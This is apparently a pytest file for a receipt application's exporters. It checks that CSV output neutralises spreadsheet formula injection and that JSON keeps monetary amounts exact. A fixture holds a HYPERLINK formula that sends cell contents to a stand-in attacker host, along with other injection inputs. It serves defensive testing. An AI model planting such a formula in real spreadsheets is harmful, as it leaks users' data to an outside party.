"""Exporters: every registered one meets the contract; CSV is spreadsheet-safe."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from receiptflow.export import EXPORTERS, Exporter, get_exporter
from receiptflow.export.csv import COLUMNS, safe_text
from receiptflow.extractors.base import ExtractionResult
from receiptflow.schemas.receipt import Receipt
from receiptflow.storage import ReceiptRecord, Store

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def records(
    store: Store,
    receipt_factory: Callable[..., Receipt],
    result_factory: Callable[..., ExtractionResult],
) -> list[ReceiptRecord]:
    receipts = [
        receipt_factory(
            merchant=FORMULA,
            items=[("+SUM(A1:A9)", "2.50", "@cmd"), ("-2 discount", "-0.50", None)],
            total="2.00",
        ),
        receipt_factory(
            merchant='Bäckerei Müller, "Am Markt"',
            currency="EUR",
            items=[("Brötchen\nx2", "0.80", "groceries")],
            total="0.80",
        ),
        receipt_factory(merchant="No Items Ltd", items=[], total="9.99"),
    ]
    for index, receipt in enumerate(receipts):
        document = store.save_input_bytes(f"doc {index}".encode(), f"{index}.jpg", source="cli")
        store.record_extraction(document.id, result_factory(receipt))
    return list(store.iter_receipts())


@pytest.mark.parametrize("name", sorted(EXPORTERS))
def test_every_exporter_meets_the_contract(name: str, records: list[ReceiptRecord]) -> None:
    exporter = get_exporter(name)
    assert isinstance(exporter, Exporter) and exporter.name == name and exporter.is_available()
    assert exporter.suffix.startswith(".") and "/" in exporter.media_type
    out = io.StringIO()
    exporter.export(records, out)
    assert out.getvalue()
    empty = io.StringIO()
    exporter.export([], empty)
    assert empty.getvalue()


def _csv_rows(records: list[ReceiptRecord]) -> list[dict[str, str]]:
    out = io.StringIO(newline="")
    get_exporter("csv").export(records, out)
    text = out.getvalue()
    assert text.startswith("\ufeff") and "\r\n" in text
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_csv_has_one_row_per_line_item_and_no_formulas(records: list[ReceiptRecord]) -> None:
    rows = _csv_rows(records)
    assert list(rows[0]) == COLUMNS
    assert [(r["receipt_id"], r["description"], r["amount"]) for r in rows] == [
        (str(records[0].id), "'+SUM(A1:A9)", "2.50"),
        (str(records[0].id), "'-2 discount", "-0.50"),  # text escaped, the number stays a number
        (str(records[1].id), "Brötchen\nx2", "0.80"),
        (str(records[2].id), "", ""),
    ]
    assert rows[0]["merchant"] == "'" + FORMULA and rows[0]["category"] == "'@cmd"
    assert rows[1]["receipt_total"] == "2.00"
    assert rows[2]["merchant"] == 'Bäckerei Müller, "Am Markt"'
    assert (rows[2]["currency"], rows[2]["date"], rows[2]["quantity"]) == ("EUR", "2024-03-14", "1")
    assert rows[3]["receipt_total"] == "9.99"
    for row in rows:
        assert not any(cell.startswith(("=", "+", "@")) for cell in row.values())


def test_json_keeps_money_exact(records: list[ReceiptRecord]) -> None:
    out = io.StringIO()
    get_exporter("json").export(records, out)
    exported = json.loads(out.getvalue())
    assert [item["id"] for item in exported] == [record.id for record in records]
    first = exported[0]
    assert first["receipt"]["total"] == "2.00" and first["receipt"]["merchant"]["name"] == FORMULA
    assert first["document"]["sha256"] == records[0].document_sha256
    assert Receipt.model_validate(first["receipt"]) == records[0].receipt
    assert Decimal(exported[1]["receipt"]["line_items"][0]["amount"]) == Decimal("0.80")


@given(st.text(max_size=40))
def test_safe_text_never_starts_a_formula_and_loses_nothing(value: str) -> None:
    cell = safe_text(value)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert cell == value or cell == "'" + value
